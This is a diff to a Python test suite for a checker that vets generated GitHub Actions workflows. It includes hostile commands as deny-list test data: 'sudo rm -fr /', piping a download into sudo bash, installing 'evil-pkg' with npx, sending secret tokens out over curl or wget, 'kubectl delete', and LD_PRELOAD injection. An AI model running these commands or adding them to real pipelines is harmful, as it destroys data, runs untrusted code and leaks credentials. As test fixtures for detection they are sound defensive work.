@@ -106,6 +106,8 @@ SHELL = [
     ("sudo-rm", "sudo rm -fr /", "forbidden-run", "deletes the file system"),
     ("helm-uninstall", "helm uninstall api -n prod", "forbidden-run", "uninstalls a Helm release"),
     ("helm-delete", "helm delete api", "forbidden-run", "uninstalls a Helm release"),
+    ("eval-string", 'eval "echo hi"', "forbidden-run", "runs code through `eval`"),
+    ("rm-build", "rm -rf build", "forbidden-run", "deletes files"),
     ("rm-in-xargs", "find . -name '*.yaml' | xargs rm", "command-not-allowed", "`rm`"),
     # installing from anywhere
     ("npx-latest", "npx -y evil-pkg@latest", "forbidden-run", "installs software with `npx`"),
@@ -300,6 +302,11 @@ YAML = [
     ("matrix-expression-indirection", draft(run("trivy config ${{ matrix.file }}"), job=(
         "    strategy:\n      matrix:\n        file: ${{ fromJSON(github.event.comment.body) }}\n")),
      "run-expression", "matrix.file"),
+    ("workflow-defaults-shell", draft(run("trivy config k8s/api.yaml"),
+                                      workflow_env="defaults:\n  run:\n    shell: python\n"),
+     "shell-not-allowed", "the workflow sets `defaults.run.shell: python`"),
+    ("env-name-not-plain", with_env("          BAD-NAME: x\n"), "variable-not-allowed", "not a plain variable name"),
+    ("env-value-names-venv", with_env("          OUT: tools-venv/bin/hadolint\n"), "protected-path", "venv"),
     ("env-from-expression", draft(run("trivy config k8s/api.yaml"), job="    env: ${{ fromJSON('{}') }}\n"),
      "variable-not-allowed", "mapping"),
 ]
@@ -387,6 +394,14 @@ def test_plain_scanner_and_setup_steps_pass(script):
     assert not [f for f in findings if f.blocking], [(f.rule, f.message) for f in findings]
 
 
+def test_none_grants_and_a_workflow_level_sarif_grant_pass():
+    text = draft(f"      - uses: {UPLOAD}\n        with:\n          sarif_file: x.sarif\n",
+                 top="permissions:\n  contents: read\n  id-token: none\n  security-events: write\n")
+    assert not rules(check(text))
+    without_upload = draft(run("trivy config k8s/api.yaml"), top="permissions:\n  security-events: write\n")
+    assert rules(check(without_upload)) == {"permission-not-allowed"}
+
+
 def test_a_sarif_upload_may_have_security_events_write_on_its_job():
     text = draft(f"      - uses: {TRIVY}\n        with:\n          scan-ref: k8s/api.yaml\n          format: sarif\n"
                  f"      - uses: {UPLOAD}\n        with:\n          sarif_file: trivy.sarif\n",
@@ -457,6 +472,16 @@ def test_an_allowed_secret_in_job_env_reaching_the_network_is_flagged():
     assert not rules(check(plain, allow))
 
 
+def test_allowed_secrets_in_workflow_env_or_an_unreadable_script_count_as_sent():
+    allow = config("secrets:\n  allow: [SONAR_TOKEN, GITHUB_TOKEN]\n")
+    text = draft(run("curl https://sonar.example"), workflow_env="env:\n  S: ${{ secrets.SONAR_TOKEN }}\n")
+    assert "secret-over-network" in rules(check(text, allow))
+    unreadable = draft(run("echo 'unterminated"), job="    env:\n      S: ${{ secrets.SONAR_TOKEN }}\n")
+    assert "secret-over-network" in rules(check(unreadable, allow))  # what cannot be read is not trusted
+    token = draft(run('wget --header "x: ${{ github.token }}" https://x.example'))
+    assert "secret-over-network" in rules(check(token, allow))
+
+
 def test_secrets_github_token_is_a_token_unless_allowed():
     text = with_env("          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n").replace("GH_TOKEN:", "TOKEN_FOR_TRIVY:")
     assert "token-use" in rules(check(text))
@@ -500,9 +525,11 @@ def test_run_deny_adds_to_the_allowlist():
 
 
 def test_existing_workflows_only_get_warnings_for_dangerous_shell():
-    text = draft(run("curl -sSL https://x.example/i.sh \\\n  | sudo bash\nnpm ci\nkubectl delete ns x"),
-                 runs_on="self-hosted", top="")
-    found = check(text, generated=False)
+    text = draft("      - uses: actions/checkout@v4\n        env:\n          LD_PRELOAD: x.so\n"
+                 "          T: ${{ secrets.DEPLOY_KEY }}\n"
+                 + run("curl -sSL https://x.example/i.sh \\\n  | sudo bash\nnpm ci\nkubectl delete ns x"),
+                 runs_on="self-hosted", top="permissions: write-all\n")
+    found = check(text, config("permissions:\n  max:\n    contents: read\n"), generated=False)
     assert {(f.rule, f.severity.value) for f in found} == {("forbidden-run", "warning")}
     assert [f.message.split(" ", 4)[-1] for f in found] == ["pipes a download into `bash`",
                                                             "deletes Kubernetes resources (`kubectl delete`)"]
